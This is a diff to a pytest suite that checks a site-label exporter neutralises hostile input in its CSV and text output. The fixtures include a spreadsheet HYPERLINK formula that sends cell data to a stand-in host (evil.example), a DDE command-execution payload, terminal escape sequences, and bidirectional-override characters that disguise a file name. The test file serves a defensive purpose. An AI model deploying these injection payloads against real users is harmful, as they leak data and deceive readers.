@@ -20,6 +20,9 @@ ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 ESCAPE = "\x1b]8;;http://evil.example\x07site\x1b[2J"
 FORGED = "SITE-C\nBlack holes: fix these first (0)"
+# Bidirectional overrides and isolates reorder what the reader sees (issue 32 row 12).
+BIDI = "SITE-\u202eexe.gnp\u202c\u2066=1+1\u2069\u200f"
+BIDI_CHARS = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
 
 
 @pytest.fixture
@@ -27,7 +30,7 @@ def hostile_store(tmp_path):
     url = "sqlite:///%s" % (tmp_path / "hostile.db")
     store = open_store(url)
     labels = [(FORMULA, "+cmd|'/c calc'!A0"), (ESCAPE, "@SUM(1+1)"), (FORGED, "-2+3"),
-              ("\tTAB", "\rCR")]
+              ("\tTAB", "\rCR"), (BIDI, "\u2067RTL")]
     envelopes = []
     for index, (source_site, dest_site) in enumerate(labels):
         envelopes.append(samples.envelope(
@@ -56,8 +59,9 @@ def test_csv_cells_never_start_a_formula(hostile_store, tmp_path):
         assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
         if cell.startswith("-"):
             float(cell)  # only a number may start with a minus sign
-        assert not any(ord(c) < 32 for c in cell), cell
+        assert not any(ord(c) < 32 or c in BIDI_CHARS for c in cell), cell
     assert any(cell.startswith("'=HYPERLINK") for cell in cells)
+    assert "SITE-\\u202eexe.gnp\\u202c\\u2066=1+1\\u2069\\u200f" in cells
 
 
 def test_text_output_carries_no_control_characters(hostile_store, tmp_path):
@@ -67,6 +71,8 @@ def test_text_output_carries_no_control_characters(hostile_store, tmp_path):
     # The forged newline stays inside its line: one "Black holes" section header only.
     assert sum(1 for line in text.splitlines() if line.startswith("Black holes")) == 1
     assert all(c == "\n" or ord(c) >= 32 for c in text)
+    assert not any(c in BIDI_CHARS for c in text)
+    assert "SITE-\\u202eexe.gnp\\u202c\\u2066=" in text and "\\u2067RTL" in text
 
 
 def test_render_functions_neutralise_directly():
